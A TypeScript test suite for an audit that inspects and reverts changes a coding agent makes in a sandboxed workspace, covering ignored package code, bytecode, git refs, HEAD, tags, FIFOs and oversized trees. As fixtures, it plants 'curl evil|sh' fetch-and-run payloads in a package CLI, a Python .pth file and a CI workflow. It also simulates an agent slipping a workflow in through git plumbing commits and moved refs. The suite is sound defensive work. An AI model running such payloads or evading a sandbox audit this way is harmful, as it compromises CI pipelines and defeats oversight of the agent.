/**
 * The audit's blind spots (issue 28, point 5), on real directories and real git: ignored files
 * that existed before the session, refs, HEAD and tags, a FIFO where git's index was, git's own
 * housekeeping, and a tree too large to walk.
 */
import { execFileSync } from 'node:child_process'
import fs from 'node:fs'
import path from 'node:path'
import { UserError } from '../../src/errors.js'
import { compilePolicy } from '../../src/policy/index.js'
import { protectedNames } from '../../src/policy/sandbox.js'
import {
  audit,
  COMMIT_NOTE,
  isGitControl,
  isGitHousekeeping,
  isRunnable,
  snapshot,
  WorkspaceAudit,
  type Protection
} from '../../src/session/audit.js'
import { renderComment, renderSummary } from '../../src/reporting/render.js'
import { toReport } from '../../src/reporting/report.js'
import { createState, fold } from '../../src/session/fold.js'
import { tempWorkspace, writeFiles } from '../policy/helpers.js'

const NARROW = `version: 1
default: deny
rules:
  - { id: sources, decision: allow, write: ["src/**"] }
  - { id: workflows, decision: deny, write: [".github/**", "**/.npmrc"] }
`

let ws: ReturnType<typeof tempWorkspace>
let store: string
beforeEach(() => {
  ws = tempWorkspace('audit-blind-')
  store = `${ws.dir}-store`
  writeFiles(ws.dir, {
    '.github/workflows/ci.yml': 'on: push\n',
    'src/index.js': 'export {}\n',
    '.gitignore': 'build/\nnode_modules/\n__pycache__/\nvenv/\n',
    'node_modules/pkg/bin/cli.js': '#!/usr/bin/env node\nconsole.log("real")\n',
    'node_modules/.bin/pkg': '#!/bin/sh\nexec node ../pkg/bin/cli.js\n',
    'app/__pycache__/m.cpython-311.pyc': 'real bytecode',
    'build/old.js': 'old build output\n'
  })
  git('init', '-q', '-b', 'main')
  git('add', '-A')
  git('-c', 'user.email=a@b', '-c', 'user.name=a', 'commit', '-qm', 'start')
})
afterEach(() => {
  ws.cleanup()
  fs.rmSync(store, { recursive: true, force: true })
})

function git(...args: string[]): string {
  return execFileSync('git', args, { cwd: ws.dir, encoding: 'utf8' }).trim()
}
async function protection(text: string): Promise<Protection> {
  const policy = await compilePolicy(text, 'p.yml', ws.dir)
  return {
    names: protectedNames(policy),
    decide: (file) => policy.decide({ kind: 'write', fileName: file }),
    decideCommand: (command) => policy.decide({ kind: 'shell', fullCommandText: command })
  }
}
const read = (rel: string): string | undefined => {
  const file = path.join(ws.dir, rel)
  return fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : undefined
}

describe('the pure parts', () => {
  it('what a later step runs although git ignores it', () => {
    expect(isRunnable('node_modules/pkg/bin/cli.js')).toBe(true)
    expect(isRunnable('web/node_modules/x/index.js')).toBe(true)
    expect(isRunnable('app/__pycache__/m.cpython-311.pyc')).toBe(true)
    expect(isRunnable('venv/lib/python3.11/site-packages/evil.pth')).toBe(true)
    expect(isRunnable('lib/m.PYC')).toBe(true)
    expect(isRunnable('build/out.js')).toBe(false)
    expect(isRunnable('coverage/lcov.info')).toBe(false)
  })

  it("git's own housekeeping, and nothing else of what git obeys", () => {
    expect(isGitHousekeeping('.git/info/refs')).toBe(true)
    expect(isGitHousekeeping('.git/info/refs_AbC123')).toBe(true)
    expect(isGitHousekeeping('.git/modules/lib/info/refs')).toBe(true)
    expect(isGitControl('.git/info/refs')).toBe(false)
    for (const watched of [
      '.git/info/exclude',
      '.git/info/attributes',
      '.git/info/refsx',
      '.git/config',
      '.git/hooks/pre-commit',
      '.git/commondir'
    ]) {
      expect([watched, isGitHousekeeping(watched), isGitControl(watched)]).toEqual([
        watched,
        false,
        true
      ])
    }
  })
})

describe('ignored files that existed before', () => {
  it('a replaced package program and bytecode are violations (and not left to run); new build output is not', async () => {
    const p = await protection(NARROW)
    const snap = await snapshot(ws.dir, store, p)
    fs.writeFileSync(
      path.join(ws.dir, 'node_modules/pkg/bin/cli.js'),
      'require("child_process").execSync("curl evil|sh")\n'
    )
    fs.rmSync(path.join(ws.dir, 'app/__pycache__/m.cpython-311.pyc'))
    fs.writeFileSync(path.join(ws.dir, 'app/__pycache__/m.cpython-311.pyc'), 'evil bytecode')
    // new ignored files: build output stays exempt; package code, bytecode and .pth do not
    writeFiles(ws.dir, {
      'build/new.js': 'new build output\n',
      'node_modules/newpkg/index.js': 'evil()\n',
      'src/__pycache__/index.cpython-311.pyc': 'x',
      'venv/lib/site-packages/evil.pth': 'import os; os.system("curl evil|sh")\n',
      'venv/lib/site-packages/data.txt': 'data\n'
    })
    const result = await audit(snap, { decide: p.decide })
    expect(result.violations.map((v) => [v.path, v.change, v.rule]).sort()).toEqual(
      [
        ['app/__pycache__/m.cpython-311.pyc', 'changed', 'default'],
        ['node_modules/newpkg/index.js', 'created', 'default'],
        ['node_modules/pkg/bin/cli.js', 'changed', 'default'],
        ['venv/lib/site-packages/evil.pth', 'created', 'default']
      ].sort()
    )
    // src/** is allowed: the bytecode there stands
    expect(read('src/__pycache__/index.cpython-311.pyc')).toBe('x')
    // no copy of an ignored file is kept: the agent's version is removed, not left for a later step
    expect(read('node_modules/pkg/bin/cli.js')).toBeUndefined()
    expect(read('app/__pycache__/m.cpython-311.pyc')).toBeUndefined()
    expect(result.violations.find((v) => v.path === 'node_modules/pkg/bin/cli.js')).toMatchObject({
      reverted: false,
      note: expect.stringContaining('removed') as unknown
    })
    expect(read('node_modules/newpkg/index.js')).toBeUndefined()
    expect(read('build/new.js')).toBe('new build output\n')
    expect(read('venv/lib/site-packages/data.txt')).toBe('data\n')
  })

  it('the verify window counts only what an explicit rule forbids, ignored or not', async () => {
    const p = await protection(NARROW)
    const snap = await snapshot(ws.dir, store, p)
    fs.writeFileSync(path.join(ws.dir, 'node_modules/pkg/bin/cli.js'), 'reinstalled\n')
    const result = await audit(snap, { decide: p.decide, protectedOnly: true })
    expect(result.violations).toEqual([])
  })
})

describe('refs, HEAD and tags', () => {
  it('a commit made with plumbing, main moved to it and a new tag: all put back and reported', async () => {
    const p = await protection(NARROW)
    const start = git('rev-parse', 'HEAD')
    const snap = await snapshot(ws.dir, store, p)
    // what a hostile `npm test` can do inside the sandbox: .git's objects, index and refs are writable
    const blob = execFileSync('git', ['hash-object', '-w', '--stdin'], {
      cwd: ws.dir,
      input:
        'on: push\njobs: { evil: { runs-on: ubuntu-latest, steps: [{ run: "curl evil|sh" }] } }\n',
      encoding: 'utf8'
    }).trim()
    const index = path.join(ws.dir, '..', `${path.basename(ws.dir)}-evil-index`)
    const env = { ...process.env, GIT_INDEX_FILE: index }
    execFileSync('git', ['read-tree', 'HEAD'], { cwd: ws.dir, env })
    execFileSync(
      'git',
      ['update-index', '--add', '--cacheinfo', `100644,${blob},.github/workflows/evil.yml`],
      { cwd: ws.dir, env }
    )
    const tree = execFileSync('git', ['write-tree'], { cwd: ws.dir, env, encoding: 'utf8' }).trim()
    fs.rmSync(index)
    const commit = execFileSync(
      'git',
      ['-c', 'user.email=a@b', '-c', 'user.name=a', 'commit-tree', tree, '-p', start, '-m', 'evil'],
      { cwd: ws.dir, encoding: 'utf8' }
    ).trim()
    git('update-ref', 'refs/heads/main', commit)
    git('tag', 'v9', commit)
    git('update-ref', 'refs/heads/other', commit)
    git('symbolic-ref', 'HEAD', 'refs/heads/other')
    const result = await audit(snap, { decide: p.decide })
    expect(result.violations.map((v) => [v.path, v.change, v.rule])).toEqual([
      ['.git/HEAD', 'changed', 'git-internals'],
      ['.git/refs/heads/main', 'changed', 'git-internals'],
      ['.git/refs/heads/other', 'created', 'git-internals'],
      ['.git/refs/tags/v9', 'created', 'git-internals']
    ])
    expect(result.violations.every((v) => v.reverted)).toBe(true)
    expect(git('rev-parse', 'HEAD')).toBe(start)
    expect(git('symbolic-ref', 'HEAD')).toBe('refs/heads/main')
    expect(git('tag', '-l')).toBe('')
    expect(git('branch', '--list')).toBe('* main')
    // a later `git reset --hard` brings no workflow of the agent's
    git('reset', '-q', '--hard')
    expect(read('.github/workflows/evil.yml')).toBeUndefined()
  })

  it('a packed ref moved is put back too; git packing its refs is no change', async () => {
    const p = await protection(NARROW)
    const start = git('rev-parse', 'HEAD')
    git('tag', 'v1')
    git('pack-refs', '--all', '--prune')
    const snap = await snapshot(ws.dir, store, p)
    // housekeeping: refs move between loose files and packed-refs, no name changes its commit
    git('update-ref', 'refs/heads/loose', start)
    git('pack-refs', '--all', '--prune')
    git('update-ref', '-d', 'refs/heads/loose')
    expect((await audit(snap, { decide: p.decide })).violations).toEqual([])
    // a packed tag moved (git writes the loose ref over the packed one)
    git('-c', 'user.email=a@b', '-c', 'user.name=a', 'commit', '-q', '--allow-empty', '-m', 'x')
    git('update-ref', 'refs/heads/main', start)
    git('tag', '-f', 'v1', 'HEAD@{1}')
    const moved = await audit(snap, { decide: p.decide })
    expect(moved.violations.map((v) => v.path)).toEqual(['.git/refs/tags/v1'])
    expect(git('rev-parse', 'v1')).toBe(start)
  })
})

/** NARROW, and the agent may commit. */
const COMMITS = `${NARROW}  - { id: commits, decision: allow, shell: ["git add *", "git commit *"] }
`

describe("the agent's own commit, judged by the policy", () => {
  const commit = (message: string): void => {
    git('-c', 'user.email=a@b', '-c', 'user.name=a', 'commit', '-q', '--allow-empty', '-m', message)
  }
  const notesOf = (result: Awaited<ReturnType<typeof audit>>): Array<[string, string, boolean]> =>
    (result.notes ?? []).map((n) => [n.path, n.change, n.reverted])
  const violationsOf = (result: Awaited<ReturnType<typeof audit>>): Array<[string, string]> =>
    result.violations.map((v) => [v.path, v.rule])

  it('a commit on the current branch under a policy that allows git commit: undone, and a note, not a violation', async () => {
    const p = await protection(COMMITS)
    const start = git('rev-parse', 'HEAD')
    const snap = await snapshot(ws.dir, store, p)
    fs.writeFileSync(path.join(ws.dir, 'src/index.js'), 'export const fixed = 1\n')
    git('add', '-A')
    commit('fix')
    const result = await audit(snap, { decide: p.decide, decideCommand: p.decideCommand })
    expect(violationsOf(result)).toEqual([])
    expect(notesOf(result)).toEqual([['.git/refs/heads/main', 'changed', true]])
    expect(result.notes?.[0]?.reason).toBe(COMMIT_NOTE)
    // undone: the branch is where it was, the change is in the work tree (the patch's source)
    expect(git('rev-parse', 'HEAD')).toBe(start)
    expect(read('src/index.js')).toBe('export const fixed = 1\n')
  })

  it('the same commit under a policy that does not allow git commit: a violation', async () => {
    const p = await protection(NARROW)
    const start = git('rev-parse', 'HEAD')
    const snap = await snapshot(ws.dir, store, p)
    fs.writeFileSync(path.join(ws.dir, 'src/index.js'), 'export const fixed = 1\n')
    git('add', '-A')
    commit('fix')
    const result = await audit(snap, { decide: p.decide, decideCommand: p.decideCommand })
    expect(violationsOf(result)).toEqual([['.git/refs/heads/main', 'git-internals']])
    expect(result.notes).toBeUndefined()
    expect(git('rev-parse', 'HEAD')).toBe(start)
  })

  it("several commits on a detached HEAD (a pull request's checkout), and on a branch git packed: notes", async () => {
    const p = await protection(COMMITS)
    const start = git('rev-parse', 'HEAD')
    git('checkout', '-q', '--detach')
    const snap = await snapshot(ws.dir, store, p)
    fs.writeFileSync(path.join(ws.dir, 'src/a.js'), 'a\n')
    git('add', '-A')
    commit('one')
    fs.writeFileSync(path.join(ws.dir, 'src/b.js'), 'b\n')
    git('add', '-A')
    commit('two')
    const detached = await audit(snap, { decide: p.decide, decideCommand: p.decideCommand })
    expect(violationsOf(detached)).toEqual([])
    expect(notesOf(detached)).toEqual([['.git/HEAD', 'changed', true]])
    expect(git('rev-parse', 'HEAD')).toBe(start)

    git('checkout', '-q', 'main')
    git('pack-refs', '--all', '--prune')
    const packed = await snapshot(ws.dir, `${store}-packed`, p)
    try {
      commit('three')
      const result = await audit(packed, { decide: p.decide, decideCommand: p.decideCommand })
      expect(violationsOf(result)).toEqual([])
      expect(notesOf(result)).toEqual([['.git/refs/heads/main', 'changed', true]])
      expect(git('rev-parse', 'HEAD')).toBe(start)
    } finally {
      fs.rmSync(`${store}-packed`, { recursive: true, force: true })
    }
  })

  it('under a policy that allows git commit, everything else stays a violation: a tag, another branch, HEAD switched or detached elsewhere, a branch moved back, a commit of a path the write rules forbid, packed-refs rewritten', async () => {
    const p = await protection(COMMITS)
    const judge = async (move: () => void): Promise<Array<[string, string]>> => {
      const snap = await snapshot(ws.dir, store, p)
      const start = git('rev-parse', 'HEAD')
      move()
      const result = await audit(snap, { decide: p.decide, decideCommand: p.decideCommand })
      expect(result.notes).toBeUndefined()
      expect(git('rev-parse', 'HEAD')).toBe(start)
      return violationsOf(result)
    }
    // a tag
    expect(await judge(() => git('tag', 'v9'))).toEqual([['.git/refs/tags/v9', 'git-internals']])
    // a commit on another branch
    expect(
      await judge(() => {
        git('checkout', '-q', '-b', 'other')
        commit('x')
      })
    ).toEqual([
      ['.git/HEAD', 'git-internals'],
      ['.git/refs/heads/other', 'git-internals']
    ])
    // put back: the branch the agent made is gone
    expect(git('branch', '--list')).toBe('* main')
    // HEAD detached at its own commit
    expect(
      await judge(() => {
        git('checkout', '-q', '--detach')
        commit('x')
      })
    ).toEqual([['.git/HEAD', 'git-internals']])
    // a branch moved back (to its parent) and a detached HEAD moved elsewhere than a descendant
    commit('second')
    const second = git('rev-parse', 'HEAD')
    expect(await judge(() => git('update-ref', 'refs/heads/main', 'HEAD~1'))).toEqual([
      ['.git/refs/heads/main', 'git-internals']
    ])
    git('checkout', '-q', '--detach')
    expect(await judge(() => git('checkout', '-q', 'HEAD~1'))).toEqual([
      ['.git/HEAD', 'git-internals']
    ])
    git('checkout', '-q', 'main')
    expect(git('rev-parse', 'HEAD')).toBe(second)
    // a commit on top of the branch that adds a workflow (git plumbing: no file in the work tree)
    expect(
      await judge(() => {
        const blob = execFileSync('git', ['hash-object', '-w', '--stdin'], {
          cwd: ws.dir,
          input: 'on: push\n',
          encoding: 'utf8'
        }).trim()
        const index = path.join(ws.dir, '..', `${path.basename(ws.dir)}-evil-index`)
        const env = { ...process.env, GIT_INDEX_FILE: index }
        execFileSync('git', ['read-tree', 'HEAD'], { cwd: ws.dir, env })
        execFileSync(
          'git',
          ['update-index', '--add', '--cacheinfo', `100644,${blob},.github/workflows/evil.yml`],
          { cwd: ws.dir, env }
        )
        const tree = execFileSync('git', ['write-tree'], { cwd: ws.dir, env, encoding: 'utf8' })
        fs.rmSync(index)
        const evil = execFileSync(
          'git',
          ['-c', 'user.email=a@b', '-c', 'user.name=a', 'commit-tree', tree.trim(), '-p', 'HEAD'],
          { cwd: ws.dir, input: 'evil\n', encoding: 'utf8' }
        ).trim()
        git('update-ref', 'refs/heads/main', evil)
      })
    ).toEqual([['.git/refs/heads/main', 'git-internals']])
    // packed-refs rewritten: a packed tag moved
    git('tag', 'v1', 'HEAD~1')
    git('pack-refs', '--all', '--prune')
    expect(
      await judge(() => {
        const file = path.join(ws.dir, '.git', 'packed-refs')
        const text = fs.readFileSync(file, 'utf8')
        const before = git('rev-parse', 'v1')
        fs.writeFileSync(file, text.replace(`${before} refs/tags/v1`, `${second} refs/tags/v1`))
      })
    ).toEqual([['.git/refs/tags/v1', 'git-internals']])
  })

  it('no shell decision given (an audit that cannot ask the policy): every moved ref is a violation', async () => {
    const p = await protection(COMMITS)
    const snap = await snapshot(ws.dir, store, p)
    fs.writeFileSync(path.join(ws.dir, 'src/index.js'), 'export const fixed = 1\n')
    git('add', '-A')
    commit('fix')
    const result = await audit(snap, { decide: p.decide })
    expect(violationsOf(result)).toEqual([['.git/refs/heads/main', 'git-internals']])
  })
})

describe("git's own housekeeping", () => {
  it('gc on a loose-object-heavy checkout (info/refs, packs, packed refs, logs) is no violation', async () => {
    const p = await protection(NARROW)
    // 2,000 loose objects, past the checkout's gc.auto (git's default is 6,700)
    const dir = path.join(ws.dir, '..', `${path.basename(ws.dir)}-blobs`)
    fs.mkdirSync(dir)
    const files = Array.from({ length: 2000 }, (_, i) => {
      const file = path.join(dir, `b${i}`)
      fs.writeFileSync(file, `blob ${i}\n`)
      return file
    })
    execFileSync('git', ['hash-object', '-w', '--stdin-paths'], {
      cwd: ws.dir,
      input: files.join('\n') + '\n'
    })
    fs.rmSync(dir, { recursive: true, force: true })
    git('config', 'gc.auto', '256')
    git('config', 'gc.autoDetach', 'false')
    const snap = await snapshot(ws.dir, store, p)
    git('status', '--porcelain')
    git('gc', '--auto')
    expect(fs.existsSync(path.join(ws.dir, '.git', 'info', 'refs'))).toBe(true)
    const result = await audit(snap, { decide: p.decide })
    expect(result.violations).toEqual([])
  }, 60000)
})

describe('regular files only, never a wait', () => {
  it('a FIFO in place of .git/index is a violation, put back, and the audit ends', async () => {
    const p = await protection(NARROW)
    const snap = await snapshot(ws.dir, store, p)
    const index = path.join(ws.dir, '.git', 'index')
    fs.rmSync(index)
    execFileSync('mkfifo', [index])
    const started = Date.now()
    const result = await audit(snap, { decide: p.decide })
    expect(Date.now() - started).toBeLessThan(20000)
    expect(result.violations).toEqual([
      expect.objectContaining({
        path: '.git/index',
        rule: 'git-internals',
        reason: expect.stringContaining('FIFO') as unknown,
        reverted: true
      })
    ])
    expect(fs.lstatSync(index).isFile()).toBe(true)
    expect(git('status', '--porcelain')).toBe('')
  }, 30000)

  it('a FIFO in place of HEAD is a violation, put back', async () => {
    const p = await protection(NARROW)
    const snap = await snapshot(ws.dir, store, p)
    const head = path.join(ws.dir, '.git', 'HEAD')
    fs.rmSync(head)
    execFileSync('mkfifo', [head])
    const result = await audit(snap, { decide: p.decide })
    expect(result.violations.map((v) => [v.path, v.rule, v.reverted])).toEqual([
      ['.git/HEAD', 'git-internals', true]
    ])
    expect(fs.readFileSync(head, 'utf8')).toBe('ref: refs/heads/main\n')
  }, 30000)
})

describe('a tree too large to walk', () => {
  it('fails the run before the agent starts, naming the fix', async () => {
    const p = await protection(NARROW)
    await expect(
      WorkspaceAudit.start({
        root: ws.dir,
        storeDir: store,
        protection: p,
        limit: 5,
        report: () => undefined,
        evidence: () => ({ tools: [], permissions: [] })
      })
    ).rejects.toThrow(UserError)
    await expect(
      WorkspaceAudit.start({
        root: ws.dir,
        storeDir: store,
        protection: p,
        limit: 5,
        report: () => undefined,
        evidence: () => ({ tools: [], permissions: [] })
      })
    ).rejects.toThrow(/more than 5 entries.*working-directory/s)
  })
})

describe("what the report says of the agent's commit undone", () => {
  it('the note reaches the report, the job summary and the comment; the run is no violation', () => {
    const state = createState({
      startedAt: '2026-11-23T10:00:00.000Z',
      policySource: '.github/copilot-policy.yml',
      workingDirectory: '/ws',
      maxAutopilotContinues: 5
    })
    fold(state, {
      type: 'event',
      event: { type: 'session.task_complete', data: { summary: 'ok' } }
    })
    fold(state, {
      type: 'audit',
      result: {
        changed: 1,
        complete: true,
        violations: [],
        notes: [
          { path: '.git/refs/heads/main', change: 'changed', reason: COMMIT_NOTE, reverted: true }
        ]
      }
    })
    fold(state, { type: 'ended', ending: { kind: 'idle' } })
    const report = toReport(state, { endedAt: '2026-11-23T10:05:00.000Z' })
    expect(report.status).toBe('completed')
    expect(report.audit?.notes).toEqual([
      { path: '.git/refs/heads/main', change: 'changed', reason: COMMIT_NOTE, reverted: true }
    ])
    const line =
      "↩️ **The agent's commit was undone** (`.git/refs/heads/main`: refs are the workflow's to move); its changes are in the patch"
    expect(renderSummary(report)).toContain(line)
    expect(renderComment(report, { marker: '<!-- m -->' })).toContain(line)
  })
})
